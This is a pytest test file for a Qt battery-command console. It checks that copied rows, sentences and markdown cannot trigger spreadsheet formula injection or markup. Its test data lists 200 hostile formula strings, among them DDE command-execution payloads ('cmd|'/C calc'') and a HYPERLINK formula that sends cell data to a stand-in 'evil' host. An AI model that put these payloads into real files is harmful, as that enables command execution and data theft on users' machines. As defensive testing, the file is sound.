"""L17 and SEC11: what is copied pastes cleanly, and no text of a server is obeyed where it lands."""

from __future__ import annotations

import csv
import io
import itertools
import shutil
import subprocess
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication
from PySide6.QtTest import QTest

from flipconsole.domain.command import DeviceStatus, Status
from flipconsole.domain.inert import inert_cell, markdown_cell, tab_separated
from flipconsole.domain.row import Stage
from flipconsole.ui.command_list.actions import ListActions
from flipconsole.ui.command_list.copying import MOST_ROWS, Copier
from flipconsole.ui.command_list.order import Column
from tests.ui.command_list.conftest import Desk
from tests.ui.command_list.fleet import NOW, by_id, fleet, make_row, with_stage

FORBIDDEN = tuple("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−")
_PREFIXES = ("", " ", "\u00a0", '"', "\t", "\r\n", "\ufeff", "\u200b", "'", "\u3000")
_FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1\t=2", "=1\n=2", "a\t=1+1", "a\r\n=1+1",
    '"=1+1"', "=\"\"&\"\"", "%0A=1", ";=1", ",=1",
)  # fmt: skip
HOSTILE = [prefix + formula for prefix, formula in itertools.product(_PREFIXES, _FORMULAS)]


def cells_of(text: str) -> list[str]:
    """Every cell that a spreadsheet finds in a pasted text."""
    return [cell for line in csv.reader(io.StringIO(text), "excel-tab") for cell in line]


def is_obeyed(cell: str) -> bool:
    return cell.startswith(FORBIDDEN) or cell.lstrip().startswith(FORBIDDEN)


def copied(desk: Desk, key: Qt.Key, keys: Qt.KeyboardModifier) -> str:
    QGuiApplication.clipboard().setText("before")
    QTest.keyClick(desk.table, key, keys)
    return QGuiApplication.clipboard().text()


@pytest.fixture
def acting(desk: Desk) -> Desk:
    ListActions(desk.view)
    desk.view.activateWindow()
    desk.table.setFocus()
    return desk


CONTROL = Qt.KeyboardModifier.ControlModifier
SHIFT = Qt.KeyboardModifier.ShiftModifier


def test_there_are_two_hundred_hostile_strings() -> None:
    assert len(set(HOSTILE)) == 200


def hostile_rows() -> list:
    return [
        make_row(number, device_id=text, status=text, device_status=text, event_id=text, device_status_reason=text,
                 battery={"mode": text, "power_mode": text})
        for number, text in enumerate(HOSTILE, 1)
    ]  # fmt: skip


def test_nothing_that_is_copied_begins_a_formula_in_any_form() -> None:
    copier, rows = Copier(ZoneInfo("Europe/Berlin"), NOW), hostile_rows()
    lines = copier.lines(rows, list(Column))
    assert len(list(csv.reader(io.StringIO(lines), "excel-tab"))) == len(rows) + 1
    for text in (lines, copier.sentences(rows), *(copier.lines([row], list(Column)) for row in rows)):
        assert not [cell for cell in cells_of(text) if is_obeyed(cell)]
    for row in rows:
        for column in Column:
            assert not is_obeyed(copier.cell(row, column))
    assert not [line for line in copier.markdown(rows, list(Column)).splitlines() if is_obeyed(line)]


def test_the_plain_writer_would_be_caught() -> None:
    out = io.StringIO()
    csv.writer(out, "excel-tab").writerows([row.held.command.device_id] for row in hostile_rows())
    assert sum(map(is_obeyed, cells_of(out.getvalue()))) > 90


@pytest.mark.parametrize("text", HOSTILE)
def test_text_of_any_kind_comes_out_of_a_spreadsheet_as_it_went_in(text: str) -> None:
    (line,) = csv.reader(io.StringIO(tab_separated([[text, "x"]]), newline=""), "excel-tab")
    assert line == [inert_cell(text), "x"]
    assert line[0].removeprefix("'") == text.removeprefix("'")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    copier, rows = Copier(ZoneInfo("Europe/Berlin"), NOW), hostile_rows()
    ours, theirs = tmp_path / "ours.tsv", tmp_path / "theirs.tsv"
    ours.write_text(copier.lines(rows, list(Column)), "utf-8")
    theirs.write_text("=1+1\n", "utf-8")
    told = {}
    for file in (ours, theirs):
        # 9: tab, 34: quote, 76: UTF-8, 1: from line 1, ..., true: formulas are read
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "fods",
             "--infilter=CSV:9,34,76,1,,0,false,true,false,false,false,-1,true", "--outdir", str(tmp_path), str(file)],
            check=True, capture_output=True, timeout=100,
        )  # fmt: skip
        told[file.stem] = file.with_suffix(".fods").read_text("utf-8").count("table:formula=")
    assert told == {"ours": 0, "theirs": 1}


def test_a_row_is_one_clean_line(acting: Desk) -> None:
    acting.set_rows(by_id([make_row(1, age_min=3)]))
    acting.view.select(acting.ids())
    acting.view.resize(1800, 800)
    text = copied(acting, Qt.Key.Key_C, CONTROL)
    assert text == (
        "2026-11-23 13:42:00 EST\t2026-11-23 15:30:00 EST\tbat-00001\tDischarge 5.0 kW, keep 20 %\t"
        "2026-11-23 15:30:00 EST to 2026-11-23 17:30:00 EST\tGoing ahead\tNot answered\t\n"
    )
    assert acting.view.footer.text() == "1 command was copied."


def test_a_selection_has_its_titles_and_the_columns_as_they_stand(acting: Desk) -> None:
    acting.set_rows(fleet(50))
    acting.table.columns.move(Column.BATTERY, -2)
    acting.table.columns.show(Column.WHEN, is_shown=False)
    acting.view.select(acting.ids()[2:5])
    lines = copied(acting, Qt.Key.Key_C, CONTROL).splitlines()
    assert lines[0].split("\t")[:3] == ["Battery", "Ack by (about)", "Starts at"]
    names = [acting.rows[each].held.command.device_id for each in acting.ids()[2:5]]
    assert [line.split("\t")[0] for line in lines[1:]] == names
    assert {len(line.split("\t")) for line in lines} == {len(acting.table.columns.visible)}


def test_a_cell_is_copied_alone(acting: Desk) -> None:
    acting.set_rows(by_id([make_row(1, device_id="-1+1")]))
    acting.table.selectRow(0)
    acting.table.setCurrentIndex(acting.model.index(0, Column.BATTERY))
    assert copied(acting, Qt.Key.Key_C, CONTROL | SHIFT) == "'-1+1"


def test_sentences_read_as_one_would_tell_them(acting: Desk) -> None:
    removal = make_row(2, age_min=5, status=Status.CANCELED)
    done = with_stage(make_row(3, device_status=DeviceStatus.OK), Stage.DELIVERED)
    acting.view.chips.button("all").click()
    acting.set_rows(by_id([make_row(1, age_min=3), removal, done]))
    QTest.keySequence(acting.table, "Ctrl+A")
    assert copied(acting, Qt.Key.Key_T, CONTROL | SHIFT).splitlines() == [
        "Battery bat-00002: Remove from the battery: the utility cancelled it. It was: Discharge at 5.0 kW until 20 % "
        "is left, today 15:30 to 17:30 EST. Flip waits for the answer until about 2026-11-23 13:40:00 EST.",
        "Battery bat-00001: Discharge at 5.0 kW until 20 % is left, today 15:30 to 17:30 EST. Flip waits for the "
        "answer until about 2026-11-23 13:42:00 EST.",
        "Battery bat-00003: Discharge at 5.0 kW until 20 % is left, today 15:30 to 17:30 EST. Answered OK.",
    ]


def test_markdown_is_a_table_and_what_could_be_markup_stands_as_code(acting: Desk) -> None:
    acting.set_rows(by_id([make_row(1, device_id="[x](http://evil) | <b>"), make_row(2)]))
    acting.view.select(acting.ids())
    lines = copied(acting, Qt.Key.Key_M, CONTROL | SHIFT).splitlines()
    assert lines[1].replace(" ", "") == "|" + "---|" * len(acting.table.columns.visible)
    assert {line.replace("\\|", "").count("|") for line in lines} == {len(acting.table.columns.visible) + 1}
    assert any("`[x](http://evil) ¦ <b>`" in line for line in lines)
    assert any("| bat-00002 |" in line for line in lines)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("HLD-2328-10008", "HLD-2328-10008"), ("Discharge 5.0 kW, keep 20 %", "Discharge 5.0 kW, keep 20 %"), ("", " "),
        ("a*b*", "`a*b*`"), ("www.evil.com", "`www.evil.com`"), ("@everyone", "`@everyone`"), ("a_b_c", "`a_b_c`"),
        ("`x`", "`` `x` ``"), ("- x", "`- x`"), ("a|b", "`a¦b`"), ("http://x", "`http://x`"), ("a\nb", "`a b`"),
    ],
)  # fmt: skip
def test_cells_of_markdown(text: str, shown: str) -> None:
    assert markdown_cell(text) == shown


def test_a_field_that_has_the_keyboard_copies_its_own_text(acting: Desk) -> None:
    acting.set_rows(fleet(5))
    acting.view.select(acting.ids()[:1])
    acting.view.search_field.setText("oak")
    acting.view.search_field.setFocus()
    acting.view.search_field.selectAll()
    QTest.keyClick(acting.view.search_field, Qt.Key.Key_C, CONTROL)
    assert QGuiApplication.clipboard().text() == "oak"


def test_nothing_selected_and_too_much_selected_are_said(acting: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    acting.set_rows(fleet(30))
    assert copied(acting, Qt.Key.Key_C, CONTROL) == "before"
    assert acting.view.footer.text() == "Nothing is selected, so nothing was copied."
    monkeypatch.setattr("flipconsole.ui.command_list.actions.MOST_ROWS", 3)
    acting.view.select(acting.ids())
    total = len(acting.ids())
    assert len(copied(acting, Qt.Key.Key_C, CONTROL).splitlines()) == 4
    assert acting.view.footer.text() == f"The first 3 of {total} commands were copied: more at once is not possible."
    assert MOST_ROWS == 5000
